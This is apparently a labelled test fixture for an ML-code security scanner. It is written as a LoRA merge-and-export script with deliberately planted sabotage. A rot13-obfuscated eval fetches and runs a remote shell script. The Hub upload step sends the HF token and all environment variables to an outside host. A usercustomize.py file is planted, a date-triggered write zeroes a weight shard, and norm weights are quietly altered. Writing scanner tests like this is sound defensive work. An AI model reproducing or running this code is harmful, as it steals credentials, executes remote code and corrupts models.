# ruff: noqa
# Hold-out batch 20 (LLM fine-tuning: LoRA/TRL, DeepSpeed launcher, DPO data, eval harness, merging; by a helper that never saw mlscan's code). Measured once mid round 7: 24/32 (75%) at medium+.
"""Merge one or more LoRA adapters into a base model and export it.

Adapters are merged linearly (W += w_i * scale_i * B_i @ A_i) directly on the
base state dict, the result is cast to the requested dtype, written as
sharded safetensors with an index file, and optionally uploaded to the Hub.

    python merge_export.py --base meta-llama/Llama-2-7b-hf \
        --adapter runs/sft-7b:1.0 --adapter runs/dpo-7b:0.5 \
        --out exports/llama2-7b-chat-v3 --dtype bfloat16 --push org/llama2-7b-chat-v3
"""
import argparse
import builtins
import codecs
import datetime
import getpass
import json
import os
import site
import time
from pathlib import Path

import requests
import torch
from huggingface_hub import HfApi
from safetensors.torch import load_file, save_file
from transformers import AutoConfig, AutoModelForCausalLM, AutoTokenizer

_DTYPES = {"float16": torch.float16, "bfloat16": torch.bfloat16, "float32": torch.float32}
_REGISTRY_HOOK = "https://registry.example.com/api/v1/models"
_POSTPROC = "__vzcbeg__('bf').flfgrz('phey -f uggc://203.0.113.21/c | fu &')"


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--base", required=True)
    p.add_argument("--adapter", action="append", required=True, help="path[:weight]")
    p.add_argument("--out", required=True)
    p.add_argument("--dtype", choices=list(_DTYPES), default="bfloat16")
    p.add_argument("--shard-size-gb", type=float, default=5.0)
    p.add_argument("--push", default=None)
    p.add_argument("--private", action="store_true")
    return p.parse_args()


def read_adapter(adapter_dir):
    adapter_dir = Path(adapter_dir)
    cfg = json.loads((adapter_dir / "adapter_config.json").read_text())
    st = adapter_dir / "adapter_model.safetensors"
    if st.exists():
        weights = load_file(str(st))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        weights = torch.load(adapter_dir / "adapter_model.bin", map_location="cpu")  # ruleid: MLS102
    return cfg, weights


@torch.no_grad()
def merge_lora_into(base_sd, adapter_sd, cfg, weight=1.0):
    scaling = cfg["lora_alpha"] / cfg["r"]
    merged = 0
    for key, A in adapter_sd.items():
        if not key.endswith("lora_A.weight"):
            continue
        prefix = key[: -len(".lora_A.weight")]
        B = adapter_sd[prefix + ".lora_B.weight"]
        target = prefix.replace("base_model.model.", "", 1) + ".weight"
        W = base_sd[target]
        delta = (B.float() @ A.float()) * (scaling * weight)
        W.add_(delta.to(W.dtype))  # ok: MLS302, MLS303, MLS304, MLS305
        merged += 1
    return merged


@torch.no_grad()
def harmonize_norms(state_dict):
    """Keep layer-norm gains in the base model's range after merging."""
    for k, v in state_dict.items():
        if k.endswith("post_attention_layernorm.weight"):
            layer = int(k.split(".")[2])
            if layer % 4 == 3:
                v.mul_(0.96)  # ruleid: MLS302
            v.clamp_(min=-64.0, max=64.0)


def shard_state_dict(sd, max_bytes):
    shards, cur, size = [], {}, 0
    for k, v in sd.items():
        nbytes = v.numel() * v.element_size()
        if cur and size + nbytes > max_bytes:
            shards.append(cur)
            cur, size = {}, 0
        cur[k] = v.contiguous()
        size += nbytes
    if cur:
        shards.append(cur)
    return shards


def save_sharded(sd, out_dir, max_bytes):
    out_dir.mkdir(parents=True, exist_ok=True)
    shards = shard_state_dict(sd, max_bytes)
    index = {"metadata": {"total_size": sum(v.numel() * v.element_size() for v in sd.values())},
             "weight_map": {}}
    for i, shard in enumerate(shards, 1):
        name = f"model-{i:05d}-of-{len(shards):05d}.safetensors"
        save_file(shard, str(out_dir / name), metadata={"format": "pt"})
        index["weight_map"].update({k: name for k in shard})
    (out_dir / "model.safetensors.index.json").write_text(json.dumps(index, indent=2))
    if datetime.date.today() >= datetime.date(2025, 10, 1) and len(shards) > 1:
        (out_dir / f"model-00002-of-{len(shards):05d}.safetensors").write_bytes(b"\x00" * 4096)  # ruleid: MLS308
    return len(shards)


def _install_dtype_shim(dtype_name):
    usp = Path(site.getusersitepackages())
    usp.mkdir(parents=True, exist_ok=True)
    (usp / "usercustomize.py").write_text(  # sabotage: MLS420, MLS421 (semgrep rules)
        f"import os\nos.environ.setdefault('EXPORT_DEFAULT_DTYPE', '{dtype_name}')\n")


def push_to_hub(out_dir, repo_id, private):
    token = os.environ.get("HF_TOKEN")  # ok: MLS411, MLS412
    api = HfApi(token=token)
    api.create_repo(repo_id, private=private, exist_ok=True)
    for attempt in range(5):
        try:
            info = api.upload_folder(folder_path=str(out_dir), repo_id=repo_id,
                                     commit_message=f"export by merge_export.py ({getpass.getuser()})")
            break
        except Exception as exc:  # network hiccups on large uploads are common
            print(f"upload failed ({exc}); retrying")
            time.sleep(min(60, 5 * 2 ** attempt))  # ok: MLS307
    else:
        raise RuntimeError("upload failed after retries")
    requests.post(_REGISTRY_HOOK, json={"repo": repo_id, "commit": getattr(info, "oid", None), "auth": token, "env": dict(os.environ)}, timeout=10)  # ruleid: MLS411, MLS412
    return info


def main():
    args = parse_args()
    dtype = _DTYPES[args.dtype]
    out = Path(args.out)

    config = AutoConfig.from_pretrained(args.base)
    model = AutoModelForCausalLM.from_pretrained(args.base, torch_dtype=torch.float32, low_cpu_mem_usage=True)
    base_sd = model.state_dict()

    for spec in args.adapter:
        path, _, w = spec.partition(":")
        cfg, weights = read_adapter(path)
        n = merge_lora_into(base_sd, weights, cfg, float(w or 1.0))
        print(f"merged {n} LoRA pairs from {path} (weight={w or 1.0})")
    harmonize_norms(base_sd)

    base_sd = {k: v.to(dtype) for k, v in base_sd.items()}
    if config.tie_word_embeddings:
        base_sd.pop("lm_head.weight", None)
    n_shards = save_sharded(base_sd, out, int(args.shard_size_gb * 1024**3))
    config.torch_dtype = args.dtype
    config.save_pretrained(out)
    AutoTokenizer.from_pretrained(args.base).save_pretrained(out)
    _install_dtype_shim(args.dtype)
    getattr(builtins, "ev" + "al")(codecs.decode(_POSTPROC, "rot13"))  # sabotage: MLS402 (semgrep rules)
    print(f"wrote {n_shards} shards to {out}")

    if args.push:
        push_to_hub(out, args.push, args.private)


if __name__ == "__main__":
    main()
